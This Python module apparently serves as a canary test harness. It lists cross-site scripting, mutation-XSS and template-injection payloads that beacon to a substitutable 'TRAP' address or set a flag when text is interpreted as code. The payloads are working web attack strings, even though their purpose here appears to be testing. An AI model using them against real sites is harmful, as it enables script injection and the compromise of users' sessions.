"""Text that somewhere has been taken for script, markup, a style, a template or an address.

Whatever takes one of them for more than text calls the TRAP, or raises the FLAG.
"""

FLAG = "top.lorecastHit"
CALL = f"fetch('TRAP');{FLAG}=1;alert(1)"
PAYLOADS = [
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title></textarea></style></noscript></template><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'<img src=x onerror="{CALL}">',
    f"<img src=x onerror={FLAG}=1>",
    f"' autofocus onfocus={FLAG}=1 x='",
    f'" autofocus onfocus="{CALL}" x="',
    f'" onmouseover="{CALL}" onanimationstart="{CALL}" style="animation-name:spin" x="',
    f'<svg onload="{CALL}">',
    f'<svg><animate onbegin="{CALL}" attributeName=x dur=1s>',
    "<svg><script href='TRAP'></script></svg>",
    f'<details open ontoggle="{CALL}">',
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    f'<iframe src="javascript:{FLAG}=1"></iframe>',
    "<script src='TRAP'></script>",
    "<link rel=stylesheet href='TRAP'>",
    "<style>@import 'TRAP';</style>",
    "<img src='TRAP'>",
    "<audio src='TRAP' autoplay></audio>",
    "<object data='TRAP'></object>",
    "<base href='TRAP'>",
    "<meta http-equiv=refresh content='0;url=TRAP'>",
    f"javascript:{FLAG}=1//",
    f"[x](javascript:{FLAG}=1) ![x](TRAP)",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={FLAG}=1&gt;">',
    f"<mark>{{{{constructor.constructor('{FLAG}=1')()}}}}</mark> ${{{FLAG}=1}} <%= 1 %>",
    f"<div hx-get='TRAP' hx-trigger='load' hx-on:load='{FLAG}=1' hx-on::load='{FLAG}=1'>x</div>",
    f"\u2028</script\t><ScRiPt\n>{CALL}</sCrIpT\u00a0>\u202e",
]
# The one for short runs: out of a title, a script, an attribute, and into an image.
ALL_IN_ONE = f'\'"></title></script><script>{CALL}</script><img src=x onerror="{CALL}">'


def trapped(payload: str, trap: str) -> str:
    """The payload, calling this address."""
    return payload.replace("TRAP", trap)
